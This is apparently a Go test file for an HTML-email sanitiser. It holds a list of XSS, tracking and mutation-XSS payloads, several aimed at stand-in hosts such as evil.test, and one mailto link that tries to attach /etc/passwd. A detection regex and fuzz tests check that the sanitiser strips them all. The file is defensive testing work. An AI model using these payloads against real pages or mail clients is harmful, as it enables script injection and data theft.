package richtext

import (
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// foul is what sanitised HTML must never hold.
var foul = regexp.MustCompile(`(?i)<(script|style|link|meta|base|form|input|button|svg|math|iframe|object|embed|video|audio|template|frame)\b` +
	`|<[^>]*\s(on[a-z]+|id|class|name|srcset|background|cite|action|formaction|poster|target)\s*=` +
	`|<[^>]*(href|src)="\s*(javascript|data|vbscript|file):|<img[^>]*src="\s*(https?:)?//|<[^>]*url\(|<[^>]*expression\(`)

// hostile are ideas seen in attacks on mail readers: each tries to run, to load, or to
// break out.
var hostile = []string{
	`<script>alert(1)</script>kept`,
	`<img src=x onerror=alert(1)>`,
	`<img src="https://tracker.test/p.gif">`,
	`<img src="//tracker.test/p.gif">`,
	`<img srcset="https://tracker.test/p.gif 1x">`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" jAvAsCrIpT:alert(1)">x</a>`,
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="/local">x</a><a href="//host.test/x">y</a>`,
	`<iframe src="https://evil.test"></iframe>`,
	`<object data="x"></object><embed src="x">`,
	`<form action="https://evil.test"><input name=q><button>go</button></form>`,
	`<meta http-equiv=refresh content="0;url=https://evil.test">`,
	`<base href="https://evil.test">`,
	`<link rel=stylesheet href="https://evil.test/x.css">`,
	`<style>body{background:url(https://evil.test)}</style>`,
	`<div style="background:url(https://evil.test)">x</div>`,
	`<div style="color:red;position:fixed;top:0;width:expression(alert(1))">x</div>`,
	`<div style="background-color:red;background-image:u\72l(//evil.test)">x</div>`,
	`<table background="https://evil.test/x.png"><tr><td>x</table>`,
	`</div></body></html><table><tr><td>unbalanced`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<p id=root class=app name=x onclick=alert(1)>x</p>`,
	`<video poster="https://evil.test/x.png"><source src="https://evil.test/x.mp4"></video>`,
	`<!--[if mso]><img src="https://evil.test"><![endif]-->x`,
	`<img src="cid:ok@x"><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
	`<a href="mailto:a@b.test?subject=Hi&body=x&attach=/etc/passwd&bcc=evil@x.test">x</a>`,
	`<blockquote cite="https://evil.test">x</blockquote>`,
	"<a href=\"https://ok.test\" target=_blank ping=\"https://evil.test\">x</a>",
	`<template><img src=x onerror=alert(1)></template>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img alt="&quot;><script>alert(1)</script>" src=cid:x>`,
}

func TestNothingFoulPassesTheWall(t *testing.T) {
	t.Parallel()
	for _, source := range hostile {
		for name, clean := range map[string]string{
			"Sanitize": Sanitize(source), "FromMail": FromMail(source).Reply, "FromEditor": first(FromEditor(source)),
		} {
			if m := foul.FindString(clean); m != "" {
				t.Errorf("%s(%q) keeps %q:\n%s", name, source, m, clean)
			}
			if name == "Sanitize" && Sanitize(clean) != clean {
				t.Errorf("Sanitize is not stable for %q:\n%s\n%s", source, clean, Sanitize(clean))
			}
		}
	}
}

func first(a, _ string) string { return a }

func TestSanitizeKeepsWhatAPersonMayRead(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, source, want string }{
		{"text and structure", `<h2>Hi</h2><p>a <b>b</b></p><ul><li>c</ul>`, `<h2>Hi</h2><p>a <b>b</b></p><ul><li>c</li></ul>`},
		{"links that say where", `<a href="https://x.test/a?b=c" onclick=x>l</a>`, `<a href="https://x.test/a?b=c" rel="noreferrer">l</a>`},
		{"pictures that came along", `<img src="cid:a@b" width=10 onload=x>`, `<img src="cid:a@b" width="10"/>`},
		{"harmless styles", `<span style="color:#f00;position:fixed">r</span>`, `<span style="color: #f00">r</span>`},
		{"tables, closed", `<table><tr><td colspan=2>x`, `<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`},
		{"a mailto's subject", `<a href="mailto:a@b.test?body=x&subject=A%20b">m</a>`, `<a href="mailto:a@b.test?subject=A%20b" rel="noreferrer">m</a>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(tt.want, Sanitize(tt.source)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestRemotePicturesAreCounted(t *testing.T) {
	t.Parallel()
	tests := map[string]bool{
		`<img src="https://x.test/a.png">`:                     true,
		`<table background="//x.test/a.png">`:                  true,
		`<div style="background: url(https://x.test)">x</div>`: true,
		`<img src="cid:a">`:                                    false,
		`<a href="https://x.test">x</a>`:                       false,
	}
	for source, want := range tests {
		if got := FromMail(source).Remote; got != want {
			t.Errorf("Remote of %s = %v", source, got)
		}
	}
}

func TestEditorTextSaysTheSame(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, source, html, text string }{
		{"paragraphs", `<p>One</p><p></p><p>Two<br>three</p>`, `<p>One</p><p><br/></p><p>Two<br/>three</p>`, "One\n\nTwo\nthree"},
		{"links", `<p>See <a href="https://x.test/a" target="_blank">the page</a> or <a href="https://x.test">https://x.test</a></p>`,
			`<p>See <a href="https://x.test/a">the page</a> or <a href="https://x.test">https://x.test</a></p>`,
			"See the page <https://x.test/a> or https://x.test"},
		{"addresses", `<p><a href="mailto:a@b.test">a@b.test</a> <a href="mailto:a@b.test">Ann</a></p>`,
			`<p><a href="mailto:a@b.test">a@b.test</a> <a href="mailto:a@b.test">Ann</a></p>`, "a@b.test Ann <a@b.test>"},
		{"lists", `<ul><li><p>a</p></li><li><p>b</p><ol><li><p>c</p></li></ol></li></ul><ol start="3"><li>d</li></ol>`,
			`<ul><li><p>a</p></li><li><p>b</p><ol><li><p>c</p></li></ol></li></ul><ol start="3"><li>d</li></ol>`,
			"- a\n- b\n  1. c\n\n3. d"},
		{"quotes", `<p>a</p><blockquote><p>b</p><p>c</p><blockquote>d</blockquote></blockquote><p>e</p>`,
			`<p>a</p><blockquote><p>b</p><p>c</p><blockquote>d</blockquote></blockquote><p>e</p>`,
			"a\n\n> b\n>\n> c\n>\n> > d\n\ne"},
		{"code", "<pre><code>if x {\n  y\n}</code></pre>", "<pre><code>if x {\n  y\n}</code></pre>", "if x {\n  y\n}"},
		{"pasted divs", `<div>a</div><div>b <span style="color:red">c</span></div>`, `<p>a</p><p>b c</p>`, "a\n\nb c"},
		{"pictures", `<p><img src="cid:x@aparte" alt="chart"> <img src="https://x.test/t.gif"></p>`,
			`<p><img src="cid:x@aparte" alt="chart"/> </p>`, "[chart]"},
		{"words that look like code", `<p>a &lt;b&gt; &amp;amp;</p>`, `<p>a &lt;b&gt; &amp;amp;</p>`, "a <b> &amp;"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			html, text := FromEditor(tt.source)
			if diff := cmp.Diff([]string{tt.html, tt.text}, []string{html, text}); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestPlainTextIsEscapedAndClickable(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, source, want string }{
		{"markup", "<b>1 & 2</b>", "&lt;b&gt;1 &amp; 2&lt;/b&gt;"},
		{"lines", "a\r\nb\n\nc", "a<br/>b<br/><br/>c"},
		{"a link", "see https://x.test/a_(b), or <http://y.test>.",
			`see <a href="https://x.test/a_(b)" rel="noreferrer">https://x.test/a_(b)</a>, or &lt;<a href="http://y.test" rel="noreferrer">http://y.test</a>&gt;.`},
		{"an address", "ask a.b@x.test.", `ask <a href="mailto:a.b@x.test" rel="noreferrer">a.b@x.test</a>.`},
		{"no script", "javascript:alert(1)", "javascript:alert(1)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := strings.ReplaceAll(FromPlain(tt.source).Reply, "\n", "")
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestDeepNestingKeepsTheWords(t *testing.T) {
	t.Parallel()
	for _, tag := range []string{"<div>", "<blockquote>", "<b>", "<table><tr><td>", "<ul><li>", "<font color=red>"} {
		p := FromMail(strings.Repeat(tag, 20_000) + "the words")
		if !strings.Contains(p.Text, "the words") || foul.MatchString(p.Reply) {
			t.Errorf("%s nested: %.80q", tag, p.Text)
		}
	}
}

// TestNoBodyIsSlow gives what was made to be slow a bound far above what it
// takes, and far below what a rule would take that looks at all of it again
// and again.
func TestNoBodyIsSlow(t *testing.T) {
	tests := map[string]string{
		"quotes":       strings.Repeat(`<blockquote type=cite></blockquote>`, 30_000),
		"rules":        strings.Repeat(`<hr>`, 100_000),
		"items":        "<ol>" + strings.Repeat(`<li>a`, 100_000),
		"wide in deep": strings.Repeat("<div>", 400) + strings.Repeat("<br>", 100_000),
		"links":        strings.Repeat(`<a href="https://x.test/">a</a> `, 20_000),
		"styles":       strings.Repeat(`<p style="color:red;border:url(x)">a</p>`, 20_000),
		"near phrases": "<p>" + strings.Repeat("on 3 may 2026 she wrote to me<br>", 20_000),
	}
	for name, source := range tests {
		began := time.Now()
		FromMail(source)
		t.Log(name, time.Since(began))
		if took := time.Since(began); took > 10*time.Second {
			t.Errorf("%s took %v", name, took)
		}
	}
	began := time.Now()
	FromPlain(strings.Repeat("on 3 may 2026 someone wrote: nothing that ends\n", 20_000))
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("plain text took %v", took)
	}
}

func FuzzSanitize(f *testing.F) {
	for _, s := range hostile {
		f.Add(s)
	}
	for _, m := range mails {
		f.Add(m.html)
	}
	f.Fuzz(func(t *testing.T, source string) {
		clean := Sanitize(source)
		if m := foul.FindString(clean); m != "" {
			t.Fatalf("keeps %q: %q", m, clean)
		}
		if again := Sanitize(clean); again != clean {
			t.Fatalf("not stable:\n%q\n%q", clean, again)
		}
		p := FromMail(source)
		if m := foul.FindString(p.Reply + p.Quoted); m != "" {
			t.Fatalf("FromMail keeps %q", m)
		}
	})
}

func FuzzFromPlain(f *testing.F) {
	for _, m := range texts {
		f.Add(m.text)
	}
	f.Fuzz(func(t *testing.T, source string) {
		p := FromPlain(source)
		if m := foul.FindString(p.Reply + p.Quoted); m != "" {
			t.Fatalf("keeps %q", m)
		}
		if !strings.HasPrefix(strings.TrimSpace(p.Text), p.ReplyText) {
			t.Fatalf("the reply %q is not how the text begins: %q", p.ReplyText, p.Text)
		}
	})
}
